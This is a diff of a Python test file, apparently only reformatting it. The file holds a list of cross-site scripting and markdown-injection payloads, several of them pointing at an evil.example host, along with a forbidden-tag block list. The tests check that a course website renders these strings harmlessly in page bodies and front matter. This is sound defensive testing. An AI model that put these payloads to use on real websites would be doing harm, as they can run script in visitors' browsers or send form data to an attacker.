@@ -17,32 +17,32 @@ PAYLOADS = [
     "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
     "<script>/*</script><script>*/alert(1)</script>",
     "<img src=x onerror=alert(1)>",
-    "<img src=\"x\" onerror=\"alert(1)\">",
+    '<img src="x" onerror="alert(1)">',
     "<IMG SRC=javascript:alert('XSS')>",
     "<img src=`javascript:alert(1)`>",
     "<svg onload=alert(1)>",
     "<svg><script>alert(1)</script></svg>",
     "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
     "<body onload=alert(1)>",
-    "<iframe src=\"javascript:alert(1)\"></iframe>",
-    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
-    "<object data=\"javascript:alert(1)\"></object>",
-    "<embed src=\"javascript:alert(1)\">",
-    "<a href=\"javascript:alert(1)\">x</a>",
-    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
-    "<div style=\"background:url(javascript:alert(1))\">x</div>",
+    '<iframe src="javascript:alert(1)"></iframe>',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    '<object data="javascript:alert(1)"></object>',
+    '<embed src="javascript:alert(1)">',
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href="jav&#x09;ascript:alert(1)">x</a>',
+    '<div style="background:url(javascript:alert(1))">x</div>',
     "<style>body{background:url(javascript:alert(1))}</style>",
     "<link rel=stylesheet href=//evil.example/x.css>",
-    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
-    "<base href=\"//evil.example/\">",
-    "<form action=\"//evil.example\"><input name=x></form>",
+    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+    '<base href="//evil.example/">',
+    '<form action="//evil.example"><input name=x></form>',
     "<details open ontoggle=alert(1)>",
     "<input autofocus onfocus=alert(1)>",
     "<video><source onerror=alert(1)></video>",
     "<audio src=x onerror=alert(1)>",
     "<marquee onstart=alert(1)>x</marquee>",
     "<!--<img src=--><img src=x onerror=alert(1)//-->",
-    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
     "<textarea><script>alert(1)</script></textarea>",
     "[click](javascript:alert(1))",
     "[click](JaVaScRiPt:alert(1))",
@@ -52,28 +52,45 @@ PAYLOADS = [
     "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
     "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
     "![x](javascript:alert(1))",
-    "[x](https://example.org\" onmouseover=\"alert(1))",
-    "![x\" onerror=\"alert(1)](https://example.org/a.png)",
+    '[x](https://example.org" onmouseover="alert(1))',
+    '![x" onerror="alert(1)](https://example.org/a.png)',
     "[ref]\n\n[ref]: javascript:alert(1)",
-    "<https://example.org/\" onclick=\"alert(1)>",
+    '<https://example.org/" onclick="alert(1)>',
     "<javascript:alert(1)>",
-    "# Heading {: onclick=\"alert(1)\" }",
-    "Paragraph\n{: onclick=\"alert(1)\" style=\"x\" }",
+    '# Heading {: onclick="alert(1)" }',
+    'Paragraph\n{: onclick="alert(1)" style="x" }',
     "## Title {#x onclick=alert(1)}",
     "`<script>alert(1)</script>`",
     "```html\n<script>alert(1)</script>\n```",
-    "!!! note \"<img src=x onerror=alert(1)>\"\n    body",
+    '!!! note "<img src=x onerror=alert(1)>"\n    body',
     "Footnote[^x]\n\n[^x]: <script>alert(1)</script>",
     "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
     "&lt;script&gt;alert(1)&lt;/script&gt;",
     "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "\"><script>alert(1)</script>",
-    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
+    '"><script>alert(1)</script>',
+    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
 ]
 
 _SCRIPT_SCHEMES = ("javascript:", "vbscript:", "data:")
-_FORBIDDEN_TAGS = {"script", "iframe", "object", "embed", "style", "base", "form", "input", "svg",
-                   "math", "video", "audio", "textarea", "noscript", "frame", "frameset", "applet"}  # fmt: skip
+_FORBIDDEN_TAGS = {
+    "script",
+    "iframe",
+    "object",
+    "embed",
+    "style",
+    "base",
+    "form",
+    "input",
+    "svg",
+    "math",
+    "video",
+    "audio",
+    "textarea",
+    "noscript",
+    "frame",
+    "frameset",
+    "applet",
+}
 
 
 _OWN_FORMS = {("/search", "get"), ("/language", "post")}
@@ -150,7 +167,9 @@ def reloading_client(make_settings, content: ContentDirs):  # type: ignore[no-un
 
 
 @pytest.mark.parametrize("payload", PAYLOADS)
-def test_payload_in_module_body_is_inert(reloading_client: TestClient, content: ContentDirs, payload: str) -> None:
+def test_payload_in_module_body_is_inert(
+    reloading_client: TestClient, content: ContentDirs, payload: str
+) -> None:
     content.edit("courses/demo-course/02-second.md", "Sensors watch methane at the face.", payload)
     response = reloading_client.get("/courses/demo-course/demo-second")
     assert response.status_code == 200
@@ -166,11 +185,16 @@ def test_payload_in_module_body_is_inert(reloading_client: TestClient, content: 
 
 
 @pytest.mark.parametrize("payload", PAYLOADS[:12])
-def test_payload_in_front_matter_is_escaped(reloading_client: TestClient, content: ContentDirs, payload: str) -> None:
+def test_payload_in_front_matter_is_escaped(
+    reloading_client: TestClient, content: ContentDirs, payload: str
+) -> None:
     quoted = payload.replace("\\", "\\\\").replace('"', '\\"').replace("\n", " ")
     content.edit("courses/demo-course/02-second.md", "title: Methane monitoring", f'title: "{quoted}"')
-    content.edit("courses/demo-course/02-second.md", "summary: Sensors and what to do on an alarm.",
-                 f'summary: "{quoted}"')  # fmt: skip
+    content.edit(
+        "courses/demo-course/02-second.md",
+        "summary: Sensors and what to do on an alarm.",
+        f'summary: "{quoted}"',
+    )
     for path in ("/courses/demo-course/demo-second", "/courses/demo-course", "/search?q=sensors"):
         response = reloading_client.get(path)
         assert response.status_code == 200
